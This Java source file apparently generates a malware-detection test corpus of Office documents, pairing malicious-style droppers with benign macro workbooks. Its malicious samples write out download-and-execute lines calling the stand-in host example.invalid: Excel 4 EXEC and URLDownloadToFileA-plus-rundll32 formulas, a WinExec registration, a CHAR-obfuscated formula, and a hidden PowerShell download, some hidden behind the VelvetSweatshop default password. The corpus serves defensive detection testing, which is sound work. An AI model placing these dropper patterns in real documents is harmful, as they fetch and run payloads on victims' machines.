package org.peekaboo.bench;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.peekaboo.bench.DropperMacros.App;
import org.peekaboo.bench.DropperMacros.Payload;
import org.peekaboo.bench.DropperMacros.Trigger;
import org.peekaboo.office.testing.OfficeFiles;

/**
 * Writes the generated part of the detection corpus (see docs/detection.md): malicious-style
 * macro documents into {@code malicious/}, with the scripts, shortcuts and HTML smuggling pages
 * of {@link DropperFiles}, the OneNote sections of {@link DropperOneNote} and the presentations of
 * {@link DropperPowerPoint}, and benign macro-enabled documents into
 * {@code benign-macros/}. The droppers are real VBA projects and Excel 4 macro sheets whose
 * text does what droppers do; nothing in them is executable and nothing here runs them. The
 * same seed gives the same set of documents and sources (zip timestamps aside).
 *
 * <p>Usage: {@code DropperCorpus DIR [SEED]}.
 */
public final class DropperCorpus {
    /** The seed the corpus script uses, so that every machine builds the same documents. */
    public static final long DEFAULT_SEED = 13;

    /** One generated document: the corpus class directory, its file name, its bytes. */
    public record Sample(String directory, String name, byte[] bytes) {
    }

    private DropperCorpus() {
    }

    public static void main(String[] args) throws IOException {
        if (args.length < 1 || args.length > 2) {
            System.err.println("usage: DropperCorpus DIR [SEED]");
            System.exit(2);
        }
        long seed = args.length == 2 ? Long.parseLong(args[1]) : DEFAULT_SEED;
        List<Path> written = write(Path.of(args[0]), seed);
        System.out.println("DropperCorpus: wrote " + written.size() + " documents under " + args[0]);
    }

    /** Writes every sample under {@code dir}; the paths written. */
    public static List<Path> write(Path dir, long seed) throws IOException {
        List<Path> written = new ArrayList<>();
        for (Sample sample : samples(seed)) {
            Path target = dir.resolve(sample.directory()).resolve(sample.name());
            Files.createDirectories(target.getParent());
            Files.write(target, sample.bytes());
            written.add(target);
        }
        return written;
    }

    /** The whole generated corpus, malicious first. */
    public static List<Sample> samples(long seed) {
        List<Sample> samples = new ArrayList<>(malicious(new Random(seed)));
        samples.addAll(benignMacros());
        samples.addAll(benignXlm());
        samples.addAll(encrypted());
        samples.addAll(DropperOneNote.malicious());
        samples.addAll(DropperRtf.samples());
        samples.addAll(DropperPdfs.benign());
        samples.addAll(DropperXlsb.samples());
        samples.addAll(DropperDiskImages.samples());
        samples.addAll(DropperPowerPoint.samples());
        return samples;
    }

    /**
     * Every trigger with every payload, each in the OLE2 or the OOXML format of its application
     * in turn (so each trigger and each payload appears in both), then Excel 4 macro sheets.
     */
    static List<Sample> malicious(Random random) {
        List<Sample> samples = new ArrayList<>();
        List<Payload> payloads = DropperMacros.payloads();
        int n = 0;
        for (int t = 0; t < DropperMacros.TRIGGERS.size(); t++) {
            Trigger trigger = DropperMacros.TRIGGERS.get(t);
            for (int p = 0; p < payloads.size(); p++) {
                Payload payload = payloads.get(p);
                String spelling = DropperMacros.spelling(trigger.name(), random);
                Map<String, String> modules = OfficeFiles.module(trigger.module(),
                        DropperMacros.dropper(trigger, spelling, payload));
                boolean ole2 = (t + p) % 2 == 0;
                String name = "%02d-%s-%s".formatted(++n, trigger.tag(), payload.tag());
                samples.add(document(trigger.app(), ole2, "malicious", name, modules));
            }
        }
        String[][] xlm = {
            {"exec", "EXEC(\"cmd /c start http://example.invalid/x\")", "HALT()"},
            {"call-urlmon", "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
                    + "\"http://example.invalid/p.bin\",\"C:\\Users\\Public\\p.dll\",0,0)",
                "EXEC(\"rundll32 C:\\Users\\Public\\p.dll,DllRegisterServer\")", "HALT()"},
            {"register-kernel32", "REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run1\",,1,9)",
                "Run1(\"cmd /c start http://example.invalid/r\",0)", "HALT()"},
            {"char-formula", "FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(34)"
                    + "&\"calc\"&CHAR(34)&CHAR(41),A5)", "GOTO(A5)"},
        };
        for (String[] sheet : xlm) {
            String[] formulas = java.util.Arrays.copyOfRange(sheet, 1, sheet.length);
            samples.add(new Sample("malicious", "%02d-xlm-%s.xlsm".formatted(++n, sheet[0]),
                    OfficeFiles.xlsmWithXlmFormulas(formulas)));
        }
        // Excel 97-2003 and SYLK (text Excel opens whatever its name) carry the same macros.
        samples.add(new Sample("malicious", "%02d-xlm-exec-legacy.xls".formatted(++n),
                OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/l\")", "HALT()")));
        samples.add(new Sample("malicious", "%02d-xlm-exec-sylk.slk".formatted(++n),
                OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/s\")", "HALT()")));
        List<Sample> files = DropperFiles.malicious(n + 1);
        samples.addAll(files);
        samples.addAll(DropperPdfs.malicious(n + 1 + files.size()));
        return samples;
    }

    /**
     * Macro-enabled documents as ordinary people have them: empty projects, modules of
     * attributes or {@code Option Explicit} only, formatting helpers without a trigger, and an
     * auto-open that only touches the status bar. Each in .doc, .docm, .xls and .xlsm.
     */
    static List<Sample> benignMacros() {
        List<Sample> samples = new ArrayList<>();
        int n = 0;
        for (App app : App.values()) {
            String host = app == App.WORD ? "ThisDocument" : "ThisWorkbook";
            for (boolean ole2 : new boolean[] {true, false}) {
                Map<String, Map<String, String>> kinds = new LinkedHashMap<>();
                kinds.put("empty-project", emptyProject(app));
                kinds.put("attributes-only", OfficeFiles.module(host,
                        "Attribute VB_Base = \"0{00020819-0000-0000-C000-000000000046}\"",
                        "Attribute VB_GlobalNameSpace = False", "Attribute VB_Creatable = False",
                        "Attribute VB_PredeclaredId = True", "Attribute VB_Exposed = True",
                        "Attribute VB_TemplateDerived = False", "Attribute VB_Customizable = True"));
                kinds.put("option-explicit", OfficeFiles.module("Module1", "Option Explicit"));
                kinds.put("format-helper", OfficeFiles.module("Module1", formatHelper(app)));
                kinds.put("status-on-open", OfficeFiles.module(app == App.WORD ? "NewMacros" : host,
                        statusOnOpen(app)));
                kinds.put("vat-function", OfficeFiles.module("Module1", "Option Explicit",
                        "Public Function Gross(ByVal net As Double, Optional ByVal rate As Double = 0.19) As Double",
                        "    Gross = Round(net * (1 + rate), 2)", "End Function"));
                for (Map.Entry<String, Map<String, String>> kind : kinds.entrySet()) {
                    String name = "%02d-%s".formatted(++n, kind.getKey());
                    samples.add(document(app, ole2, "benign-macros", name, kind.getValue()));
                }
            }
        }
        return samples;
    }

    /**
     * Excel 4 macro sheets as old workbooks have them: an Auto_Open macro that computes and
     * formats, in .xls and .xlsm.
     */
    static List<Sample> benignXlm() {
        String[] formulas = {"SELECT(!B2:B40)", "FORMAT.NUMBER(\"#,##0.00\")", "SET.VALUE(!C1,SUM(!B2:B40))",
            "GET.WORKSPACE(2)", "RETURN()"};
        return List.of(new Sample("benign-macros", "xlm-auto-open-totals.xls", OfficeFiles.xlsWithXlmFormulas(
                        "SUM(B2:B40)", "GET.WORKSPACE(2)", "RETURN(TRUE)")),
                new Sample("benign-macros", "xlm-auto-open-totals.xlsm", OfficeFiles.xlsmWithXlmFormulas(formulas)));
    }

    /**
     * Encrypted workbooks: droppers encrypted with Excel's default password VelvetSweatshop, which
     * Excel opens without asking (RC4 CryptoAPI .xls, agile and standard .xlsm), and benign
     * workbooks encrypted with a password of their own (a payroll sheet: the recipient types the
     * password) or with VelvetSweatshop (a workbook protected against changes).
     */
    static List<Sample> encrypted() {
        String velvet = "VelvetSweatshop";
        Map<String, String> workbookOpen = OfficeFiles.module("ThisWorkbook", "Private Sub Workbook_Open()",
                "    Dim sh As Object", "    Set sh = CreateObject(\"WScript.Shell\")",
                "    sh.Run \"powershell -w hidden -c iwr http://example.invalid/e -OutFile $env:TEMP\\e.exe\", 0",
                "End Sub");
        Map<String, String> vat = OfficeFiles.module("Module1", "Option Explicit",
                "Public Function Gross(ByVal net As Double) As Double", "    Gross = Round(net * 1.19, 2)",
                "End Function");
        return List.of(
                new Sample("malicious", "enc-velvet-xlm-exec.xls", OfficeFiles.encryptedXlsWithXlmFormulas(velvet,
                        "EXEC(\"cmd /c start http://example.invalid/v\")", "HALT()")),
                new Sample("malicious", "enc-velvet-workbook-open.xlsm", OfficeFiles.encryptedOoxml(
                        OfficeFiles.xlsm(workbookOpen), velvet, EncryptionMode.agile)),
                new Sample("malicious", "enc-velvet-xlm-urlmon.xlsm", OfficeFiles.encryptedOoxml(
                        OfficeFiles.xlsmWithXlmFormulas("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
                                + "\"http://example.invalid/u.bin\",\"C:\\Users\\Public\\u.dll\",0,0)",
                                "EXEC(\"rundll32 C:\\Users\\Public\\u.dll,Start\")", "HALT()"),
                        velvet, EncryptionMode.standard)),
                new Sample("benign-macros", "enc-payroll-private-password.xlsm", OfficeFiles.encryptedOoxml(
                        OfficeFiles.xlsm(vat), "Lohn-Maerz-2026", EncryptionMode.agile)),
                new Sample("benign-macros", "enc-totals-private-password.xls", OfficeFiles.encryptedXlsWithXlmFormulas(
                        "Quartal4!", "SUM(B2:B40)", "RETURN(TRUE)")),
                new Sample("benign-macros", "enc-velvet-vat-function.xlsm", OfficeFiles.encryptedOoxml(
                        OfficeFiles.xlsm(vat), velvet, EncryptionMode.agile)));
    }

    private static Map<String, String> emptyProject(App app) {
        // What Office leaves in a document once a macro was recorded and deleted: the host
        // modules with their name attribute and nothing else.
        Map<String, String> modules = new LinkedHashMap<>();
        if (app == App.WORD) {
            modules.putAll(OfficeFiles.module("ThisDocument"));
        } else {
            modules.putAll(OfficeFiles.module("ThisWorkbook"));
            modules.putAll(OfficeFiles.module("Sheet1"));
        }
        return modules;
    }

    private static String[] formatHelper(App app) {
        if (app == App.WORD) {
            return new String[] {"Sub FormatHeadings()", "    Dim p As Paragraph",
                "    For Each p In ActiveDocument.Paragraphs",
                "        If p.OutlineLevel = wdOutlineLevel1 Then p.Range.Font.Bold = True",
                "    Next p", "End Sub"};
        }
        return new String[] {"Sub FormatTotals()", "    With ActiveSheet.Range(\"B2:B40\")",
            "        .NumberFormat = \"#,##0.00\"", "        .Font.Bold = True", "    End With", "End Sub"};
    }

    private static String[] statusOnOpen(App app) {
        if (app == App.WORD) {
            return new String[] {"Sub AutoOpen()",
                "    Application.StatusBar = \"Template loaded \" & Format(Date, \"yyyy-mm-dd\")", "End Sub"};
        }
        return new String[] {"Private Sub Workbook_Open()",
            "    Application.StatusBar = \"Figures as of \" & Format(Date, \"dd.mm.yyyy\")", "End Sub"};
    }

    private static Sample document(App app, boolean ole2, String directory, String name,
                                   Map<String, String> modules) {
        if (app == App.WORD) {
            return ole2 ? new Sample(directory, name + ".doc", OfficeFiles.doc(modules))
                    : new Sample(directory, name + ".docm", OfficeFiles.docm(modules));
        }
        return ole2 ? new Sample(directory, name + ".xls", OfficeFiles.xls(modules, false, false))
                : new Sample(directory, name + ".xlsm", OfficeFiles.xlsm(modules));
    }
}
